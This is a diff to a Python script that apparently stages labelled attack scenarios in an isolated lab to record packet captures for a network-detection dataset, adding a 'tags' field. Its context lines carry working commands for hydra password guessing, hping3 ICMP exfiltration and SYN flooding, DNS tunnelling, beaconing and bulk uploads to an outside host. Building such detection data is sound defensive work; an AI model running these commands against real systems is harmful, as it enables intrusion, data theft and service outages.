@@ -32,10 +32,11 @@ OUTSIDE = "198.51.100.10"
 SCENARIOS = []
 
 
-def scenario(technique="", family="", snap=0, name=None):
-    """technique "" means that nothing is to be found. snap cuts packets, where only their number and length matter."""
+def scenario(technique="", family="", snap=0, name=None, tags=""):
+    """technique "" means that nothing is to be found, tags say which detectors of it are meant (../README.md). snap cuts packets, where
+    only their number and length matter."""
     def add(f):
-        SCENARIOS.append((name or f.__name__.replace("_", "-"), technique, family, snap, f))
+        SCENARIOS.append((name or f.__name__.replace("_", "-"), technique, family, tags, snap, f))
         return f
     return add
 
@@ -245,25 +246,25 @@ def words(lab, n):
     return lab.file("words", "\n".join(f"Winter{2000 + i}!" for i in range(n)) + "\n")
 
 
-@scenario("T1110", "hydra")
+@scenario("T1110", "hydra", tags="guessing")
 def guess_ssh(lab):
     lab.ssh("server")
     lab.run("attacker", f"hydra -I -l deploy -P {words(lab, 60)} -t 4 ssh://10.66.0.20", 120)
 
 
-@scenario("T1110", "hydra")
+@scenario("T1110", "hydra", tags="guessing")
 def guess_ftp(lab):
     lab.ftp("server")
     lab.run("attacker", f"hydra -I -l backup -P {words(lab, 60)} -t 4 ftp://10.66.0.20", 120)
 
 
-@scenario("T1110", "hydra")
+@scenario("T1110", "hydra", tags="guessing")
 def guess_http(lab):
     lab.web("server", login=True)
     lab.run("attacker", f"hydra -I -l admin -P {words(lab, 80)} -t 4 http-get://10.66.0.20/", 120)
 
 
-@scenario("T1110", "smbclient")
+@scenario("T1110", "smbclient", tags="guessing")
 def guess_smb(lab):
     lab.smb("server")
     for n in range(40):
@@ -288,17 +289,17 @@ def iodine(lab, kind):
     lab.pause(3)
 
 
-@scenario("T1071.004", "iodine")
+@scenario("T1071.004", "iodine", tags="dns tunnel")
 def tunnel_iodine_null(lab):
     iodine(lab, "NULL")
 
 
-@scenario("T1071.004", "iodine")
+@scenario("T1071.004", "iodine", tags="dns tunnel")
 def tunnel_iodine_txt(lab):
     iodine(lab, "TXT")
 
 
-@scenario("T1048.003", "names-loop")
+@scenario("T1048.003", "names-loop", tags="dns tunnel")
 def exfil_dns_names(lab):
     lab.dns("gateway")
     for n in range(90):
@@ -307,7 +308,7 @@ def exfil_dns_names(lab):
         lab.pause(0.3)
 
 
-@scenario("T1095", "hping3")
+@scenario("T1095", "hping3", tags="tunnel")
 def tunnel_ping(lab):
     secret = lab.file("secret", bytes(lab.random.randrange(256) for _ in range(90_000)))
     lab.run("client", f"hping3 --icmp -d 600 -E {secret} -i u200000 -c 150 {OUTSIDE}", 60)
@@ -326,7 +327,7 @@ def dga(lab):
         lab.pause(0.6)
 
 
-@scenario("T1071.001", "curl-implant")
+@scenario("T1071.001", "curl-implant", tags="beacon")
 def beacon_http(lab):
     lab.web("outside")
     for n in range(45):
@@ -334,7 +335,7 @@ def beacon_http(lab):
         lab.pause(4, 0.2)
 
 
-@scenario("T1071.001", "curl-implant")
+@scenario("T1071.001", "curl-implant", tags="beacon")
 def beacon_tls(lab):
     lab.web("outside", tls=True)
     for _ in range(40):
@@ -342,7 +343,7 @@ def beacon_tls(lab):
         lab.pause(5, 0.05)
 
 
-@scenario("T1071", "socket-implant")
+@scenario("T1071", "socket-implant", tags="beacon")
 def beacon_tcp(lab):
     lab.file("listen.py", "import socket\ns = socket.create_server(('', 4444))\nwhile True:\n    c, _ = s.accept(); c.recv(100); c.send(b'nothing'); c.close()\n")
     lab.start("outside", f"/usr/bin/python3 {lab.dir}/listen.py")
@@ -394,7 +395,7 @@ def rogue_router(lab):
         lab.pause(4)
 
 
-@scenario("T1499", "discover-loop")
+@scenario("T1499", "discover-loop", tags="layer-2")
 def dhcp_starvation(lab):
     lab.dns("gateway", RANGE.format(100, 150, lab.dir, "gateway"))
     lab.file("starve.py", """
@@ -414,7 +415,7 @@ for n in range(250):
     lab.run("attacker", f"/usr/bin/python3 {lab.dir}/starve.py", 60)
 
 
-@scenario("T1499", "hping3")
+@scenario("T1499", "hping3", tags="denial-of-service")
 def flood_syn(lab):
     lab.web("server")
     lab.run("attacker", "hping3 -q -S -p 80 --rand-source -i u2000 -c 2500 10.66.0.20", 30)
@@ -426,7 +427,7 @@ def bulk(lab, name, megabytes):
     return lab.file(name, os.urandom(1 << 20) * megabytes)
 
 
-@scenario("T1048", "scp", snap=96)
+@scenario("T1048", "scp", snap=96, tags="upload")
 def exfil_scp(lab):
     lab.ssh("outside")
     path = bulk(lab, "customers.tar", 60)
@@ -435,7 +436,7 @@ def exfil_scp(lab):
         lab.pause(2)
 
 
-@scenario("T1048.003", "curl-upload", snap=96)
+@scenario("T1048.003", "curl-upload", snap=96, tags="upload")
 def exfil_http(lab):
     lab.web("outside")
     path = bulk(lab, "customers.zip", 80)
@@ -592,7 +593,7 @@ def quiet_names(lab):
 
 # --- recording ---
 
-def record(number, name, technique, family, snap, play):
+def record(number, name, technique, family, tags, snap, play):
     out = HERE / f"{name}.pcap.zst"
     with Lab(name, number) as lab:
         dump = lab.dir / "capture.pcap"
@@ -615,7 +616,7 @@ def record(number, name, technique, family, snap, play):
     print(f"{name:24} {seconds:6.1f} s {len(raw):9} octets, {out.stat().st_size:8} packed", flush=True)
     if os.environ.get("LAB_LOG"):
         print(log[-3000:], flush=True)
-    return [out.name, "lab-1", technique, f"{seconds:.1f}", "https://github.com/picketwatch/picket", digest, family]
+    return [out.name, "lab-1", technique, f"{seconds:.1f}", "https://github.com/picketwatch/picket", digest, family, tags]
 
 
 def main():
@@ -637,7 +638,7 @@ def main():
     known.update(recorded)
     order = [f"{s[0]}.pcap.zst" for s in SCENARIOS]
     rows = [known[name] for name in order if name in known]
-    labels.write_text("\n".join("\t".join(r) for r in [["file", "dataset", "technique", "seconds", "source", "sha256", "family"], *rows]) + "\n")
+    labels.write_text("\n".join("\t".join(r) for r in [["file", "dataset", "technique", "seconds", "source", "sha256", "family", "tags"], *rows]) + "\n")
     sys.exit(failed)
 
 
